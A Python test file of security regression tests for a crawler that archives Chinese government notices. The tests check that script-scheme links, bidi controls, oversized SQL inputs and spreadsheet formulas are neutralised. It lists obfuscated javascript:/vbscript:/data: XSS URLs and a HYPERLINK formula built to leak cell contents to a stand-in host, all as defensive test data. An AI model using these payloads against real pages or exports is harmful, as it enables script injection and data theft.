"""Archived content is hostile: links it carries never run script, in extraction or on the article page.

Regression tests for the adversarial review (issue 11): URL schemes (browser-normalised), bidi controls.
"""

from __future__ import annotations

import json
import sys

import pytest
from datasette.utils import tilde_encode

from archive.safety import strip_bidi, web_url
from archive.store import Archive
from crawler.extract import extract_article
from tests.test_browser import browser  # noqa: F401  (the Chromium fixture)
from tests.test_datasette_search import start_server, stop

# Each of these ran script on click in Chromium when stored as a link (before the fix).
HOSTILE_URLS = [
    "JavaScript:alert(1)//x.pdf",
    "java\tscript:alert(1)//x.doc",
    "java\nscript:alert(1)//x.doc",
    " javascript:alert(1)//x.xls",
    "vbscript:msgbox(1)//x.pdf",
    "DATA:text/html,<script>alert(1)</script>.pdf",
    "jav&#x61;script:alert(1)//x.pdf",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_web_url_refuses_every_script_scheme(url):
    assert web_url(url) is None


@pytest.mark.parametrize("url", ["http://a.gov.cn/x.pdf", "HTTPS://a.gov.cn/附件.doc", " http://a.gov.cn/\t1.pdf"])
def test_web_url_keeps_web_links(url):
    assert web_url(url) and web_url(url).lower().startswith(("http://", "https://"))


def _page(links: list[str]) -> bytes:
    anchors = "".join(f'<p><a href="{u}">附件{i}：通知{i}.pdf</a></p>' for i, u in enumerate(links))
    imgs = '<img src="javascript:alert(2)"><img src="DATA:image/png;base64,AAAA"><img src="/pic/ok.jpg">'
    return (f'<html><head><title>关于开展检查的通知</title></head><body><div class="article">'
            f"<h1>关于开展检查的通知</h1><p>发布日期：2025-03-01</p><div class=\"content\">"
            f"<p>{'为做好年度检查工作，现将有关事项通知如下。' * 8}</p>{imgs}{anchors}"
            f'<p><a href="/files/real.pdf">附件：检查表.pdf</a></p></div></div></body></html>').encode()


def test_extraction_keeps_only_http_links_and_images():
    record = extract_article("http://www.example.gov.cn/art/1.html", _page(HOSTILE_URLS), {})
    urls = [a["url"] for a in record["attachments"]]
    assert urls == ["http://www.example.gov.cn/files/real.pdf"]
    images = record["images"] if isinstance(record["images"], list) else json.loads(record["images"] or "[]")
    assert [i["url"] for i in images] == ["http://www.example.gov.cn/pic/ok.jpg"]


def hostile_archive(path) -> str:
    """An archive holding one article whose stored links are hostile (as an older extractor let in)."""
    url = "http://www.example.gov.cn/art/2025/3/1/art_1_1.html"
    with Archive(path) as archive:
        archive.save_article({
            "url": url, "site": "example", "title": "\u202e通知fdp.exe", "body": "正文第一段。\n正文第二段。",
            "content_hash": "x", "attachments": [{"url": u, "text": f"附件{i}"} for i, u in enumerate(HOSTILE_URLS)],
            "images": json.dumps([{"url": "javascript:alert(2)", "alt": "图"}, {"url": "JAVASCRIPT:alert(3)"}]),
        })
    return url


def test_article_page_draws_no_script_link_and_no_dialog_fires(tmp_path, browser):  # noqa: F811
    db = tmp_path / "archive.db"
    url = hostile_archive(db)
    proc, base = start_server([sys.executable, "-m", "crawler.cli", "serve", "--db", str(db)])
    try:
        page = browser.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(f"{base}/archive/articles/{tilde_encode(url)}")
        assert "正文第一段" in page.content()
        hrefs = page.eval_on_selector_all("article a[href]", "els => els.map(e => e.href)")
        assert hrefs and all(h.startswith(("http://", "https://")) for h in hrefs), hrefs
        # Click every link inside the article (the original-page link opens in place: stay on ours).
        for link in page.locator(".govnews-attachments a, .govnews-images a").all():
            link.click(modifiers=["Control"])  # a new tab, as a reader would; javascript: would run here
        page.wait_for_timeout(500)
        assert dialogs == []
        # The title's U+202E does not reach the page.
        assert "\u202e" not in page.locator("article h1").inner_text()
    finally:
        stop(proc)


def test_strip_bidi():
    assert strip_bidi("a\u202eb\u2066c\u200fd") == "abcd" and strip_bidi(None) is None


def _sql_status(base: str, sql: str) -> tuple[int, str]:
    import urllib.error
    import urllib.parse
    import urllib.request

    url = f"{base}/archive.json?" + urllib.parse.urlencode({"sql": sql, "_shape": "array"})
    try:
        with urllib.request.urlopen(url, timeout=120) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()


@pytest.mark.parametrize("public", [False, True])
def test_plugin_functions_refuse_huge_input(tmp_path, public):
    db = tmp_path / "archive.db"
    hostile_archive(db)
    proc, base = start_server([sys.executable, "-m", "crawler.cli", "serve", "--db", str(db),
                               *(["--public"] if public else [])])
    try:
        for fn in ("govnews_fts_text(printf('%.*c', 50000000, 'x'))", "govnews_match(printf('%.*c', 5000000, 'x'))",
                   "govnews_contains('a', printf('%.*c', 5000000, 'x'))"):
            status, body = _sql_status(base, f"select length({fn})")
            assert status >= 400 and "exception" in body.lower(), (fn, status, body[:300])
        # Ordinary use still works, and a snippet of a huge text is cut, not refused.
        status, body = _sql_status(base, "select govnews_snippet(printf('%.*c', 3000000, 'x') || '政协', 'x') as s")
        assert status == 200 and "<mark>" in body
        status, body = _sql_status(base, "select count(*) as n from articles where rowid in "
                                         "(select rowid from articles_fts where articles_fts match govnews_match('正文'))")
        assert status == 200 and '"n": 1' in body, body
    finally:
        stop(proc)


FORMULA_TITLE = '=HYPERLINK("http://127.0.0.1/leak?"&A1,"点击查看")'


def formula_archive(path) -> None:
    with Archive(path) as archive:
        for i, title in enumerate([FORMULA_TITLE, "+1+2", "-3", "@SUM(A1)", "\t=1", "'=2", "普通标题"]):
            archive.save_article({"url": f"http://www.example.gov.cn/art/{i}.html", "site": "example",
                                  "title": title, "body": "正文", "content_hash": str(i), "published": "2025-03-01"})


@pytest.mark.parametrize("value", [FORMULA_TITLE, "+1", "-3", "@x", "\t=1", "\r=1", "'=2", "''+3", "plain", "'plain"])
def test_formula_neutralising_is_reversible(value):
    from archive.safety import neutralise_formula, restore_formula

    safe = neutralise_formula(value)
    assert safe[:1] not in "=+-@\t\r" and restore_formula(safe) == value


def test_exports_never_store_a_live_formula(tmp_path):
    import csv
    import io

    from click.testing import CliRunner
    from openpyxl import load_workbook

    from archive.cli import cli as archive_cli
    from archive.safety import restore_formula

    db = tmp_path / "archive.db"
    formula_archive(db)
    runner = CliRunner()
    assert runner.invoke(archive_cli, ["export", "--db", str(db), "--format", "xlsx", "--out", str(tmp_path / "a.xlsx")]).exit_code == 0
    ws = load_workbook(tmp_path / "a.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert FORMULA_TITLE in [c.value for c in cells]  # kept verbatim, as text

    def csv_titles(*extra: str) -> list[str]:
        out = tmp_path / "a.csv"
        done = runner.invoke(archive_cli, ["export", "--db", str(db), "--format", "csv", "--out", str(out), *extra])
        assert done.exit_code == 0, done.output
        return [r["title"] for r in csv.DictReader(io.StringIO(out.read_text("utf-8-sig")))]

    titles = csv_titles()
    assert not [t for t in titles if t[:1] in "=+-@\t\r"]
    assert sorted(restore_formula(t) for t in titles) == sorted(csv_titles("--raw-formulas"))
    assert FORMULA_TITLE in csv_titles("--raw-formulas")


def test_datasette_csv_never_carries_a_live_formula(tmp_path):
    import csv
    import io
    import urllib.request

    db = tmp_path / "archive.db"
    formula_archive(db)
    proc, base = start_server([sys.executable, "-m", "crawler.cli", "serve", "--db", str(db)])
    try:
        def titles(query: str) -> list[str]:
            with urllib.request.urlopen(f"{base}/archive/articles.csv?_size=max{query}", timeout=60) as r:
                return [row["title"] for row in csv.DictReader(io.StringIO(r.read().decode("utf-8-sig")))]

        safe = titles("")
        assert len(safe) == 7 and not [t for t in safe if t[:1] in "=+-@\t\r"]
        assert FORMULA_TITLE in titles("&_raw_formulas=1")
    finally:
        stop(proc)


def test_post_is_405_not_500(tmp_path):
    import urllib.error
    import urllib.request

    db = tmp_path / "archive.db"
    hostile_archive(db)
    proc, base = start_server([sys.executable, "-m", "crawler.cli", "serve", "--db", str(db)])
    try:
        for path in ("/archive/latest", "/archive/search?q=x", "/archive/articles"):
            with pytest.raises(urllib.error.HTTPError) as err:
                urllib.request.urlopen(urllib.request.Request(base + path, data=b"a=1", method="POST"), timeout=30)
            assert err.value.code == 405 and err.value.headers["Allow"] == "GET, HEAD"
        with urllib.request.urlopen(base + "/archive/latest", timeout=30) as r:
            assert r.status == 200
    finally:
        stop(proc)


@pytest.mark.parametrize("content", [b"not a database at all " * 50, b"\x89PNG\r\n\x1a\n" + bytes(2000)])
def test_serve_on_a_file_that_is_not_sqlite_exits_2_with_one_line(tmp_path, content):
    import subprocess

    bad = tmp_path / "x.db"
    bad.write_bytes(content)
    done = subprocess.run([sys.executable, "-m", "crawler.cli", "serve", "--db", str(bad), "--port", "0"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "not an SQLite database" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
